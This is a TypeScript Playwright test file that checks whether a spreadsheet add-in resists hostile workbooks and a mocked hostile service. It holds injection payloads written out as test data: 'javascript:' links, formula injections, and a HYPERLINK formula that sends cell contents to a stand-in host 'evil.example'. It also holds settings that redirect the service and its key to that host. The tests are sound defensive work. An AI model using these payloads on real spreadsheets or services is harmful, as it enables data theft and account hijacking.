/** Workbooks and services whose texts try to become markup, links, and formulas. */
import type { Frame } from 'playwright-core';
import type { WorkbookPage } from 'workbook-host';
import { becomesNumber } from '../support/becomesNumber';
import { openOnOtherComputer } from '../support/service/otherComputer';
import { expectUnharmed, script } from '../support/service/unharmed';
import { openOwnWorkplace, type OwnWorkplace } from '../support/service/workplace';
import { partsOfFile, withStoredResults, withStoredText } from '../support/workbookParts';

let workplace: OwnWorkplace;
let engineer: WorkbookPage;
let pane: Frame;
const others: WorkbookPage[] = [];
const roofs = 'K13:L18';
let bytes: Uint8Array;

beforeAll(async () => {
  workplace = await openOwnWorkplace();
  ({ book: engineer, pane } = workplace);
  await becomesNumber(engineer, 'L18');
  await engineer.settled(60_000);
  // What is written when the cells are quiet is written now.
  await pane.getByTestId('tab-handOver').click();
  await pane.getByTestId('sharing-check').click();
  await pane.getByTestId('sharing-searched').waitFor();
  bytes = await engineer.save();
});

afterAll(async () => {
  for (const book of others) await book.close();
  await workplace?.close();
});

async function openElsewhere(...given: [bytes: Uint8Array, has: { addin: boolean; key: boolean }]) {
  const book = await openOnOtherComputer(workplace.host.url, ...given);
  others.push(book);
  return book;
}

let victim: WorkbookPage | undefined;

/** Opens it at a colleague's who has the add-in and a key to steal. */
async function openWithKey(workbook: Uint8Array): Promise<WorkbookPage> {
  if (!victim) return (victim = await openElsewhere(workbook, { addin: true, key: true }));
  const before = await victim.pane();
  await Promise.all([
    victim.page.waitForEvent('framenavigated', (frame) => frame === before),
    victim.open(workbook),
  ]);
  await (await victim.pane()).getByTestId('tab-cell').waitFor();
  await victim.settled(60_000);
  return victim;
}

/** A stored result as the add-in writes it. */
interface Stored {
  owners: string[];
  saved: { request: object; results: Record<string, unknown> };
}

describe('a hostile workbook', () => {
  test('whose results name another service, script and javascript: links sends nothing there and runs nothing', async () => {
    const hostile = withStoredResults(bytes, (results) =>
      results.map((result) => {
        const { owners, saved } = result as Stored;
        const request = { ...saved.request, origin: 'https://evil.example' };
        const links = { sheetUrl: 'javascript:top.hacked=1', verdict: 'PASS', status: script };
        return { owners, saved: { ...saved, ...links, governing: script, reasons: [script], request } };
      }),
    );
    const colleague = await openWithKey(hostile);
    const own = await colleague.pane();
    await own.getByTestId('tab-cell').click();
    await colleague.select('L13');
    await own.locator('[data-testid=cell-origin][data-from=workbook]').waitFor();
    await own.getByTestId('cell-no-link').filter({ hasText: 'does not lead to this service' }).waitFor();
    await own.getByTestId('tab-problems').click();
    await own.getByTestId('unverified').first().waitFor();
    await own.getByTestId('tab-handOver').click();
    await own.getByTestId('audit').click();
    await own
      .getByTestId('command')
      .filter({ hasText: /Written on the worksheet "Calc audit"/ })
      .waitFor();
    await expectUnharmed(colleague);
    expect(JSON.stringify(await colleague.read("'Calc audit'!A4:I240"))).not.toContain(
      'HYPERLINK("javascript',
    );
  });

  test('whose results are formula text shows them as text, also frozen and listed', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const hostile = withStoredResults(bytes, (results) =>
      results.map((result) => {
        const { owners, saved } = result as Stored;
        const outputs = Object.fromEntries(Object.keys(saved.results).map((name) => [name, formula]));
        return { owners, saved: { ...saved, results: outputs, status: '=1+1', governing: formula } };
      }),
    );
    const colleague = await openElsewhere(hostile, { addin: true, key: false });
    // A formula that asks the same takes what the workbook carries: without a key there is nothing else.
    await colleague.enter('T13', String(await colleague.formula('L13')));
    await colleague.settled(60_000);
    const own = await colleague.pane();
    await own.getByTestId('tab-handOver').click();
    for (const command of ['audit', 'freeze-all']) {
      await own.getByTestId(command).click();
      await own.locator('[data-testid=command]:not([data-state=running])').waitFor();
    }
    const names = await colleague.page.evaluate(() => window.workbook.read('A1:Z60').flat().map(String));
    expect(names.filter((text) => text === 'open')).toEqual([]);
    for (const sheet of ['Calc audit', 'Calc frozen']) {
      const cells = await own.evaluate(
        (name) =>
          Excel.run(async (context) => {
            const range = context.workbook.worksheets.getItem(name).getUsedRange();
            range.load('formulas, values');
            await context.sync();
            const values = range.values as unknown[][];
            const formulas = range.formulas as unknown[][];
            // A formula is a cell whose value is another than its text.
            return formulas.flatMap((row, r) => row.filter((one, c) => one !== values[r]?.[c])).map(String);
          }),
        sheet,
      );
      expect(cells.filter((text) => /evil|^=1\+1/.test(text))).toEqual([]);
    }
    await expectUnharmed(colleague);
  });

  test('whose results are nested too deep opens with its numbers and shows nothing wrong', async () => {
    const numbers = await engineer.read(roofs);
    const before = victim?.complaints.length;
    const colleague = await openWithKey(withStoredText(bytes, () => '['.repeat(100_000)));
    expect(await colleague.read(roofs)).toEqual(numbers);
    await colleague.enter('A44', '=CALC.SNOW("7-22",44,30,4,"II","Partially Exposed","C")');
    await becomesNumber(colleague, 'A44');
    await expectUnharmed(colleague);
    // One message says that they are not readable; no error stays uncaught.
    expect(colleague.complaints.slice(before).filter((text) => text.startsWith('uncaught'))).toEqual([]);
  });

  test('that brings settings with a base address and a key is calculated at the service of this computer', async () => {
    const before = await pane.evaluate((names) => {
      const { settings } = Office.context.document;
      const evil = { origin: 'https://evil.example', baseUrl: 'https://evil.example/v1', apiKey: 'bait' };
      for (const name of names) settings.set(name, { ...evil, connections: { [evil.origin]: evil } });
      return new Promise((resolve) => settings.saveAsync(resolve));
    }, settingNames);
    expect(before).toMatchObject({ status: 'succeeded' });
    const hostile = await engineer.save();
    await pane.evaluate((names) => {
      for (const name of names) Office.context.document.settings.remove(name);
      return new Promise((resolve) => Office.context.document.settings.saveAsync(resolve));
    }, settingNames);
    expect(partsOfFile(hostile).some(({ text }) => text.includes('evil.example'))).toBe(true);

    const colleague = await openElsewhere(hostile, { addin: true, key: true });
    await colleague.enter('A41', '=CALC.SNOW("7-22",41,30,4,"II","Partially Exposed","C")');
    await becomesNumber(colleague, 'A41');
    const own = await colleague.pane();
    await own.getByTestId('tab-settings').click();
    await own.locator('[data-testid=settings-status][data-state=ok]').waitFor();
    expect(await own.getByTestId('settings-origin').inputValue()).toBe(new URL(workplace.host.url).origin);
    await expectUnharmed(colleague);
  });
});

const settingNames = [
  'calc.calculation',
  'calc.connection',
  'calc.studies',
  'calc.studyColumns',
  'serviceUrl',
];

describe('a hostile service', () => {
  test('whose templates have script in their names and labels, formulas and javascript: links runs nothing', async () => {
    const text = (what: string) => `=1+1 ${what} ${script}`;
    const template = {
      ...{ id: 'id', version: 1, code: 'hostile', name: script, category: script },
      description: `${script} [x](javascript:top.hacked=1)`,
      fields: [
        {
          referenceId: 'a',
          label: text('field'),
          type: 'number',
          units: script,
          default: 1,
          description: script,
        },
        {
          referenceId: 'b',
          label: script,
          type: 'enum',
          units: null,
          options: [script, '=2+2'],
          default: '=2+2',
        },
      ],
      outputs: [{ referenceId: 'o', label: text('output'), type: 'number', units: script }],
      presets: [{ code: script, name: script, description: script, defaults: {} }],
    };
    await engineer.context.route('**/v1/templates?*', (route) =>
      route.fulfill({ json: { templates: [template], total: 1, limit: 500, offset: 0 } }),
    );
    await engineer.context.route('**/v1/templates/hostile', (route) => route.fulfill({ json: template }));
    await engineer.context.route('**/v1/templates/hostile/calculate', (route) =>
      route.fulfill({
        json: {
          ...{ status: 'solved', sheetId: 's', sheetUrl: 'javascript:top.hacked=1', results: { o: 5 } },
          ...{ warnings: [], summaryCheck: null },
        },
      }),
    );
    await pane.getByTestId('tab-templates').click();
    await pane.getByTestId('templates-reload').click();
    await pane.getByTestId('template-item').filter({ hasText: script }).click();
    await pane.getByTestId('template-form').waitFor();
    for (const part of ['fields', 'outputs', 'presets'])
      await pane.getByTestId(`template-${part}-details`).locator('summary').click();
    await engineer.select('A200');
    await pane.getByTestId('insert-button').click();
    await pane.getByTestId('insert-result').waitFor();
    await engineer.settled(60_000);
    const block = await engineer.read('B201:D208');
    expect(block).toContainEqual([text('output'), expect.anything(), script]);
    expect(block.map(([name]) => name)).toContain(text('field'));
    expect(block.find(([name]) => name === script)?.[1]).toBe('=2+2');
    expect(block[0]?.[1]).toBe('');
    await pane.getByTestId('tab-cell').click();
    await engineer.select('C202');
    await pane.getByTestId('cell-address').filter({ hasText: /C202$/ }).waitFor();
    await pane.getByTestId('tab-study').click();
    await pane.getByTestId('study-template').selectOption('hostile');
    await pane.getByTestId('tab-handOver').click();
    await expectUnharmed(engineer);
  });
});
